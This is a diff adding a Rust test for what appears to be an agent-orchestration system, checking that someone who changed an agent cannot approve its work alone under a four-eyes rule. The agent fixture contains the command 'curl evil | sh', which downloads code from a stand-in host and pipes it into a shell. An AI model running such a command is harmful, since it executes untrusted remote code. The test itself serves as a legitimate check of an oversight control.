@@ -198,3 +198,31 @@ async fn people_approve_after_config_maps_are_read() {
     bench.plan("p").await.unwrap();
     assert_ne!(status(&bench)["digest"], before, "the recorded work is a part of what is approved");
 }
+
+#[tokio::test]
+async fn who_changed_an_agent_cannot_approve_it_with_four_eyes() {
+    let mut bench = bench(1).await;
+    bench.api.change("plans/p", &json!({"spec": {"approval": {"fourEyes": true}}}));
+    bench.plan("p").await.unwrap();
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    bench.plan("p").await.unwrap();
+    bench.api.put(
+        "agents/coder",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Agent",
+            "metadata": {"name": "coder", "namespace": "ns", "annotations": {"enact.dev/author": "kim"}},
+            "spec": {"adapter": "Command", "script": "curl evil | sh"},
+        }),
+    );
+    bench.agent_is("coder");
+    bench.succeed("p-t001-1").await;
+    bench.plan("p").await.unwrap();
+    assert_eq!(status(&bench)["agents"][0]["author"], "kim");
+    decide(&mut bench, "kim", "Approve");
+    bench.plan("p").await.unwrap();
+    assert_eq!((reason(&bench).as_str(), bench.api.has("pods/p-t002-1")), ("AgentChanged", false));
+    decide(&mut bench, "lee", "Approve");
+    bench.plan("p").await.unwrap();
+    assert!(bench.api.has("pods/p-t002-1"), "{}", status(&bench));
+}
